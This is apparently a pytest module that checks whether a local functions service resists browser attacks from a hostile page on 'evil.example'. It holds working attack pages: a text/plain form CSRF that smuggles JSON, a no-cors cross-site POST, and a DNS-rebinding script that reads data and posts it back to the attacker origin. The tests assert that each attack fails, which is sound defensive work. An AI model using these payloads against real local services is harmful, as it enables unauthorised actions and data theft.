"""A real browser on a hostile page: what it sends for the page, and what it lets the page read."""

import asyncio
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from html import escape
from pathlib import Path

import pytest
from support.http.browser import TIMEOUT_S, browser_on, needs_chromium
from support.http.relay import PAGE, Relay, relay
from support.http.service import BASE, Service, function_body

FUNCTIONS = f"{BASE}/functions"
pytestmark = [pytest.mark.slow, needs_chromium]


@asynccontextmanager
async def page_shown(service: Service, folder: Path, page: str) -> AsyncIterator[Relay]:
    """``page`` of ``evil.example`` in a browser for which that name leads to the relay."""
    async with relay(service.url, page) as (passing, port):
        url = f"http://evil.example:{port}{PAGE}"
        async with browser_on(url, folder / "browser", "evil.example"), asyncio.timeout(TIMEOUT_S):
            await passing.told
        yield passing


def answers(passing: Relay, method: str) -> list[tuple[bytes, bytes]]:
    start = f"{method} {FUNCTIONS} ".encode()
    return [(request, answer) for request, answer in passing.passed_on if request.startswith(start)]


async def test_a_form_of_another_site_cannot_create_a_function(service: Service, tmp_path: Path) -> None:
    """The text that a form sends as text/plain is JSON but for its last field, which takes in the "=" between."""
    name = json.dumps({**function_body(), "x": ""}).removesuffix('"}')
    page = f"""<form method=post enctype=text/plain target=frame action="http://127.0.0.1:PORT{FUNCTIONS}">
        <input name="{escape(name)}" value='"}}'></form><iframe name=frame></iframe><script>
        document.querySelector("iframe").onload = () => fetch("/done", {{method: "POST", body: "sent"}});
        document.querySelector("form").submit();</script>"""
    async with page_shown(service, tmp_path, page) as passing:
        [(request, answer)] = answers(passing, "POST")
    assert b"Content-Type: text/plain" in request
    assert json.loads(request.partition(b"\r\n\r\n")[2])["entryPoint"] == "index.handler"
    assert b'"code":10' in answer
    assert service.store.functions() == []


async def test_a_script_of_another_site_cannot_create_a_function(service: Service, tmp_path: Path) -> None:
    body = json.dumps(json.dumps(function_body()))
    page = f"""<script>
        fetch("http://127.0.0.1:PORT{FUNCTIONS}", {{method: "POST", mode: "no-cors", body: {body}}})
        .finally(() => fetch("/done", {{method: "POST", body: "sent"}}));</script>"""
    async with page_shown(service, tmp_path, page) as passing:
        [(_, answer)] = answers(passing, "POST")
    assert b'"code":10' in answer
    assert service.store.functions() == []


async def test_a_site_whose_name_was_made_to_lead_here_reads_nothing(service: Service, tmp_path: Path) -> None:
    async with service.client.post(FUNCTIONS, json=function_body(description="confidential")) as created:
        assert created.status == 200
    page = f"""<script>fetch("{FUNCTIONS}").then(response => response.text())
        .then(text => fetch("/done", {{method: "POST", body: text}}));</script>"""
    async with page_shown(service, tmp_path, page) as passing:
        [(request, _)] = answers(passing, "GET")
        read = json.loads(await passing.told)
    assert b"Host: evil.example" in request
    assert read["code"] == 26
